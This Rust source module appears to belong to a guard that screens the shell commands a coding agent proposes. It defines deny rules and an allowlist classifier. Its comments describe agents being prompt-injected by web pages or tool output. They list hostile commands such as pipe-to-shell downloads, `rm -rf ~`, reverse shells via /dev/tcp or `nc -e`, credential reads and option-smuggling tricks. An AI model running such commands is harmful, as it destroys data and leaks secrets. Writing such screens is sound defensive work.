//! The shell screen: what a command line would run, word by word.
//!
//! Threat answered: a coding agent talked (by a web page, an issue comment, a tool output) into
//! `curl https://x | sh`, `rm -rf ~`, a reverse shell, `cat ~/.aws/credentials`, or a "read" that
//! runs a program of the attacker's choosing (`git ls-remote --upload-pack=...`, `rg --pre`,
//! `LESSOPEN='|cmd' less f`). The screen reads the command line into words (see [`parse`]) and
//! classifies by a positive model: a command is `read` only when its program is in the table of
//! known programs ([`table`]) and every option and operand is one the table lists for reading.
//! Anything else raises the class: an unlisted option, an environment assignment outside a short
//! allowlist, an expansion whose value is known only when it runs, a redirection to a file. A
//! command that runs another program is judged by that program too: wrappers (`sudo`, `env`,
//! `timeout`, `xargs`, `find -exec`, `ssh`, `watch`), shells and interpreters given code (`sh -c`,
//! `eval`, here-strings, here-documents, pipes), and where the code cannot be known before it runs
//! (decoded, downloaded, held in a variable) the command is refused outright.
//!
//! Deny rules ([`ShellRule`]) block in every mode; the class decides with the mode. An unknown
//! program is `destructive`.

mod cloud;
mod known;
pub mod parse;
mod rules;
pub mod spec;
mod special;
pub mod table;
mod tools;
mod walk;

use std::collections::{BTreeMap, HashMap, HashSet};

use globset::{Glob, GlobSet, GlobSetBuilder};

use super::classes::ActionClass;
use crate::action::cfg::ShellConfig;
pub use parse::{Command, Script, ShellParseError, Simple, Word};
pub use spec::{Operands, ProgramSpec, SpecError, ValueKind};

/// A deny rule of the screen.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ShellRule {
    /// A recursive delete of `/`, `~`, `.`, a top-level directory, `--no-preserve-root`, or of a
    /// target known only when it runs (`rm -rf $x`).
    RmRoot,
    /// A download piped (or substituted) into a shell or interpreter.
    PipeToShell,
    /// Decoded data (`base64 -d`, `xxd -r`) piped into a shell or interpreter.
    DecodeToShell,
    /// Code that cannot be read before it runs: a shell fed from a pipe of unknown content,
    /// `eval "$x"`, `bash -c "$(...)"`, a program held in a variable.
    UnknownCode,
    /// Making or wiping a filesystem.
    Mkfs,
    /// Writing to a block device (`dd of=/dev/sda`, `> /dev/nvme0n1`, `shred /dev/sda`).
    DdDevice,
    /// World-writable or recursive permission or owner changes on a root.
    ChmodRoot,
    /// A fork bomb.
    ForkBomb,
    /// A reverse shell (`/dev/tcp`, `nc -e`, `socat exec:`, socket code in an interpreter).
    ReverseShell,
    /// Reading or writing a credential file (`~/.ssh`, `~/.aws/credentials`, `.env`, ...).
    CredentialRead,
    /// The command line cannot be read.
    Unparsable,
}

impl ShellRule {
    /// The rule id in findings.
    pub fn id(self) -> &'static str {
        match self {
            ShellRule::RmRoot => "shell-rm-root",
            ShellRule::PipeToShell => "shell-pipe-to-shell",
            ShellRule::DecodeToShell => "shell-decode-to-shell",
            ShellRule::UnknownCode => "shell-unknown-code",
            ShellRule::Mkfs => "shell-mkfs",
            ShellRule::DdDevice => "shell-dd-device",
            ShellRule::ChmodRoot => "shell-chmod-root",
            ShellRule::ForkBomb => "shell-fork-bomb",
            ShellRule::ReverseShell => "shell-reverse-shell",
            ShellRule::CredentialRead => "shell-credential-read",
            ShellRule::Unparsable => "shell-unparsable",
        }
    }

    /// Every rule, for documentation and tests.
    pub const ALL: [ShellRule; 11] = [
        ShellRule::RmRoot,
        ShellRule::PipeToShell,
        ShellRule::DecodeToShell,
        ShellRule::UnknownCode,
        ShellRule::Mkfs,
        ShellRule::DdDevice,
        ShellRule::ChmodRoot,
        ShellRule::ForkBomb,
        ShellRule::ReverseShell,
        ShellRule::CredentialRead,
        ShellRule::Unparsable,
    ];
}

/// One deny rule that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellHit {
    /// Which rule.
    pub rule: ShellRule,
    /// What matched, for a person.
    pub message: String,
}

/// What a command names as the place it acts on, for namespace tiers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TargetRef {
    /// A namespace, project, account, profile or region named by an option
    /// (`kubectl -n payments-prod`, `aws --profile prod`).
    Named {
        /// The program that names it.
        program: String,
        /// The option.
        option: String,
        /// The value.
        value: String,
    },
    /// Every namespace at once (`kubectl -A`): the most restrictive tier.
    All {
        /// The program.
        program: String,
    },
    /// None named: the program's default (`kubectl get pods` acts on the default namespace).
    Default {
        /// The program.
        program: String,
    },
}

/// What the screen found in a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellReport {
    /// The most a command in it can change.
    pub class: ActionClass,
    /// Deny rules that matched (empty: nothing denied).
    pub hits: Vec<ShellHit>,
    /// Path-like arguments and redirection targets, with whether the command writes.
    pub paths: Vec<(String, bool)>,
    /// Words in path positions whose value is known only when the command runs.
    pub unresolved: Vec<String>,
    /// Programs the screen did not know (and so counted as destructive).
    pub unknown_programs: Vec<String>,
    /// Why the class is above `read`, for a person (first reasons only).
    pub reasons: Vec<String>,
    /// Namespaces, projects and accounts the commands name.
    pub targets: Vec<TargetRef>,
}

/// Most reasons kept in a report.
const MAX_REASONS: usize = 8;

/// The compiled screen: allow patterns and the known programs.
#[derive(Debug, Clone)]
pub struct ShellScreen {
    allow: GlobSet,
    programs: HashMap<String, ProgramSpec>,
    /// Programs with subcommands (`git`, `kubectl`): their keys are `prog sub ...`.
    heads: HashSet<String>,
    /// Credential paths the configuration allows by name.
    credentials_allow: Vec<String>,
}

/// A `[action.shell]` entry that does not compile.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellConfigError {
    /// Key path.
    pub key: String,
    /// The value.
    pub value: String,
    /// Why, and what is expected.
    pub message: String,
}

/// Programs whose table keys are `prog subcommand ...`.
const HEADS: &[&str] = &[
    "git",
    "kubectl",
    "oc",
    "helm",
    "terraform",
    "tofu",
    "docker",
    "podman",
    "systemctl",
];

/// Split a table entry's keys: a head program starts a new key, other words extend it; without
/// heads every word is a key of its own.
fn entry_keys(keys: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut current: Option<String> = None;
    for w in keys.split_whitespace() {
        if HEADS.contains(&w) {
            if let Some(c) = current.take() {
                out.push(c);
            }
            current = Some(w.to_string());
        } else if let Some(c) = current.as_mut() {
            c.push(' ');
            c.push_str(w);
        } else {
            out.push(w.to_string());
        }
    }
    out.extend(current);
    out
}

impl ShellScreen {
    /// Compile `[action.shell]`: allow patterns, extra known programs, credential allowances.
    pub fn new(cfg: &ShellConfig) -> Result<ShellScreen, ShellConfigError> {
        let mut b = GlobSetBuilder::new();
        for (index, p) in cfg.allow.iter().enumerate() {
            let g = Glob::new(p).map_err(|e| ShellConfigError {
                key: format!("action.shell.allow[{index}]"),
                value: format!("{p:?}"),
                message: format!("a glob over a command's words ({})", e.kind()),
            })?;
            b.add(g);
        }
        let allow = b.build().map_err(|e| ShellConfigError {
            key: "action.shell.allow".into(),
            value: String::new(),
            message: e.to_string(),
        })?;
        let mut programs = HashMap::new();
        for (keys, class, operands, options) in table::BUILTIN {
            for key in entry_keys(keys) {
                // The built-in table is checked by a unit test; an entry that does not compile is
                // skipped rather than taking the whole guard down.
                if let Ok(spec) = ProgramSpec::new(class, operands, options) {
                    programs.insert(key, spec);
                }
            }
        }
        let mut heads: HashSet<String> = HEADS.iter().map(|h| h.to_string()).collect();
        for (name, p) in &cfg.programs {
            let key = format!("action.shell.programs.{name:?}");
            let words: Vec<&str> = name.split_whitespace().collect();
            if words.is_empty()
                || words
                    .iter()
                    .any(|w| w.starts_with('-') || w.contains('/') || w.contains('='))
            {
                return Err(ShellConfigError {
                    key,
                    value: format!("{name:?}"),
                    message: "a program name, optionally followed by its subcommand words (`mytool`, `aws ec2 describe-things`)".into(),
                });
            }
            let spec =
                ProgramSpec::new(&p.class, &p.operands, &p.options.join(" ")).map_err(|e| {
                    ShellConfigError {
                        key: key.clone(),
                        value: format!("{:?}", e.token),
                        message: e.message,
                    }
                })?;
            if words.len() > 1 && !matches!(words[0], "aws" | "gcloud" | "az") {
                heads.insert(words[0].to_string());
            }
            programs.insert(words.join(" "), spec);
        }
        for (i, c) in cfg.credentials_allow.iter().enumerate() {
            if c.trim().is_empty() {
                return Err(ShellConfigError {
                    key: format!("action.shell.credentials_allow[{i}]"),
                    value: format!("{c:?}"),
                    message: "a credential path as commands name it (`~/.kube/config`)".into(),
                });
            }
        }
        Ok(ShellScreen {
            allow,
            programs,
            heads,
            credentials_allow: cfg.credentials_allow.clone(),
        })
    }

    /// The screen with no configuration of its own.
    pub fn builtin() -> ShellScreen {
        match ShellScreen::new(&ShellConfig::default()) {
            Ok(s) => s,
            Err(_) => ShellScreen {
                allow: GlobSet::empty(),
                programs: HashMap::new(),
                heads: HashSet::new(),
                credentials_allow: Vec::new(),
            },
        }
    }

    fn empty_report() -> ShellReport {
        ShellReport {
            class: ActionClass::Read,
            hits: Vec::new(),
            paths: Vec::new(),
            unresolved: Vec::new(),
            unknown_programs: Vec::new(),
            reasons: Vec::new(),
            targets: Vec::new(),
        }
    }

    /// Screen a command line.
    pub fn screen(&self, command: &str) -> ShellReport {
        let mut walk = walk::Walk::new(self);
        if let Some(m) = rules::fork_bomb(command) {
            walk.hit(ShellRule::ForkBomb, m);
        }
        match parse::parse(command) {
            Ok(script) => walk.script(&script, 0, walk::Feed::Nothing),
            Err(e) => walk.hit(ShellRule::Unparsable, e.to_string()),
        }
        walk.finish()
    }

    /// Screen a program and its arguments given as an array (no shell reads them), with the
    /// environment assignments it is given.
    pub fn screen_argv(&self, argv: &[String], env: &BTreeMap<String, String>) -> ShellReport {
        let mut words: Vec<Word> = env
            .iter()
            .map(|(k, v)| Word {
                text: format!("{k}={v}"),
                nested: Vec::new(),
                dynamic: false,
            })
            .collect();
        words.extend(argv.iter().map(|a| Word {
            text: a.clone(),
            nested: Vec::new(),
            dynamic: false,
        }));
        let simple = Simple {
            words,
            redirects: Vec::new(),
            heredocs: Vec::new(),
        };
        let mut walk = walk::Walk::new(self);
        walk.simple(&simple, 0, walk::Feed::Nothing);
        walk.finish()
    }
}

impl Default for ShellScreen {
    fn default() -> Self {
        ShellScreen::builtin()
    }
}

#[cfg(test)]
mod tests;
